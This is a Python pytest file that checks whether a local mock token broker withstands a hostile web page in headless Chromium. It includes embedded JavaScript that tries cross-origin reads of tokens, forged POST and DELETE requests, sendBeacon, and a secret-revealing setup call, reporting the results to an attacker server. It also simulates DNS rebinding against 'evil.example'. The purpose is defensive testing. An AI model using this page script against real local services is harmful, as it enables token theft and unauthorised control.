"""A hostile page in a real browser can neither read nor drive a broker on the same machine."""

from __future__ import annotations

import json
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from evidence.browser import CHROMIUM, OPTIONS
from mockbroker import Broker, Fault
from tests.control.conftest import SHOP

pytestmark = [
    pytest.mark.slow,
    pytest.mark.short_proof,
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed"),
]

SCRIPT = """
const api = %s, report = %s;
async function attempt(name, act) {
  try {
    const answer = await act();
    return {name, type: answer.type, status: answer.status, text: await answer.text()};
  } catch (error) {
    return {name, type: 'error', status: 0, text: String(error)};
  }
}
function events() {
  return new Promise((resolve) => {
    const source = new EventSource(api + '/events');
    const end = (text) => {
      source.close();
      resolve({type: '', status: 0, text: async () => text});
    };
    source.addEventListener('hello', (event) => end('hello ' + event.data));
    source.onerror = () => end('refused');
  });
}
function form() {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = 'target';
    document.body.append(frame);
    const form = document.createElement('form');
    form.method = 'POST'; form.action = api + '/reset'; form.target = 'target';
    document.body.append(form);
    frame.onload = () => resolve({type: '', status: 0, text: async () => 'sent'});
    form.submit();
  });
}
const json = {'Content-Type': 'application/json'};
const blob = new Blob(['{"seconds": 3600}'], {type: 'application/json'});
(async () => {
  const found = [
    await attempt('read', () => fetch(api + '/tokens')),
    await attempt('read blindly', () => fetch(api + '/tokens', {mode: 'no-cors'})),
    await attempt('events', events),
    await attempt('form', form),
    await attempt('post text', () => fetch(api + '/clock/advance',
      {method: 'POST', mode: 'no-cors', body: '{"seconds": 3600}'})),
    await attempt('post nothing', () => fetch(api + '/reset', {method: 'POST', mode: 'no-cors'})),
    await attempt('post json', () => fetch(api + '/clock/advance',
      {method: 'POST', headers: json, body: '{"seconds": 3600}'})),
    await attempt('page', () => fetch(api.replace('__mockbroker__', ''))),
    await attempt('setup', () => fetch(api + '/setup',
      {method: 'POST', headers: json, body: '{"with_secret": true}'})),
    await attempt('delete', () => fetch(api + '/journal', {method: 'DELETE'})),
    await attempt('beacon', async () => {
      navigator.sendBeacon(api + '/clock/advance', blob);
      return {type: '', status: 0, text: async () => 'sent'};
    }),
  ];
  await fetch(report, {method: 'POST', mode: 'no-cors', body: JSON.stringify(found)});
})();
"""


class Attacker:
    """A server of a page that attacks a broker, and of what the page reports."""

    def __init__(self) -> None:
        self.reported = threading.Event()
        self.found: dict[str, dict[str, object]] = {}
        self.page = ""
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = attacker.page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                text = self.rfile.read(int(self.headers["Content-Length"]))
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()
                attacker.found = {each["name"]: each for each in json.loads(text)}
                attacker.reported.set()

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port

    def page_for(self, broker: Broker) -> str:
        report = f"http://127.0.0.1:{self.port}/report"
        script = SCRIPT % (json.dumps(broker.control_url), json.dumps(report))
        return f"<!doctype html><body><script>{script}</script></body>"


@contextmanager
def attacking() -> Iterator[Attacker]:
    attacker = Attacker()
    thread = threading.Thread(target=attacker.server.serve_forever)
    thread.start()
    try:
        yield attacker
    finally:
        attacker.server.shutdown()
        attacker.server.server_close()
        thread.join()


# Every name leads to this machine, as after DNS rebinding.
RULES = "--host-resolver-rules=MAP * 127.0.0.1"


@contextmanager
def opened(url: str, folder) -> Iterator[None]:
    """A browser that shows a page for as long as the block runs."""
    # With a port for debugging a headless browser stays open until it is ended.
    stays = (f"--user-data-dir={folder}", "--remote-debugging-port=0")
    process = subprocess.Popen(  # noqa: S603 - our own page
        [str(CHROMIUM), *OPTIONS, RULES, *stays, url],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        yield
    finally:
        process.terminate()
        process.wait(30)


def shown(url: str, folder) -> str:
    """What a browser shows at a URL."""
    done = subprocess.run(  # noqa: S603 - our own broker
        [str(CHROMIUM), *OPTIONS, RULES, "--dump-dom", f"--user-data-dir={folder}", url],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    return done.stdout


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1"])
def test_a_page_of_another_site_can_neither_read_nor_drive_the_broker(control, tmp_path, host):
    token = control.token()
    state = [control.done("GET", path) for path in ("/tokens/1", "/settings", "/journal")]
    now = control.done("GET", "/clock")["now"]
    with attacking() as attacker:
        attacker.page = attacker.page_for(control.broker)
        with opened(f"http://{host}:{attacker.port}/", tmp_path):
            assert attacker.reported.wait(60)
    found = attacker.found
    assert found["read"]["type"] == "error"
    # Cross-Origin-Resource-Policy: not even an answer that the page could not read.
    assert found["read blindly"]["type"] == "error"
    assert found["events"]["text"] == "refused"
    assert (found["post json"]["type"], found["delete"]["type"]) == ("error", "error")
    assert (found["page"]["type"], found["setup"]["type"]) == ("error", "error")
    assert "masked" not in json.dumps(found)
    assert SHOP.client_secret not in json.dumps(found)
    after = [control.done("GET", path) for path in ("/tokens/1", "/settings", "/journal")]
    before_token, after_token = state[0], after[0]
    assert after_token | {"seconds_left": before_token["seconds_left"]} == before_token
    assert after[1:] == state[1:]
    assert control.done("GET", "/clock")["now"] - now < 300
    assert control.vehicle(token).status_code == 200


def test_a_page_that_the_broker_serves_itself_may(control, tmp_path):
    """The control: the same page can do all of it where it may, so it would find a gap."""
    control.token()
    with attacking() as attacker:
        page = attacker.page_for(control.broker)
        answer = Fault.status(200, body=page, headers={"Content-Type": "text/html"})
        control.broker.api_script(answer)
        with opened(f"{control.broker.api_url}/page", tmp_path):
            assert attacker.reported.wait(60)
    found = attacker.found
    assert found["read"]["status"] == 200
    assert json.loads(found["read"]["text"])["total"] == 1
    assert found["events"]["text"].startswith("hello")
    assert found["post json"]["status"] == 200
    assert found["delete"]["status"] == 200
    assert found["page"]["status"] == 200
    assert SHOP.client_secret in found["setup"]["text"]


def test_a_name_that_leads_to_this_machine_is_refused_after_dns_rebinding(control, tmp_path):
    value = control.token()
    port = control.broker.control_url.split(":")[2].partition("/")[0]
    page = shown(f"http://evil.example:{port}/__mockbroker__/tokens", tmp_path / "evil")
    assert "evil.example" in page
    assert "--allow-host NAME" in page
    assert value[:4] not in page
    own = shown(f"http://localhost:{port}/__mockbroker__/tokens", tmp_path / "own")
    assert f"{value[:4]}…" in own
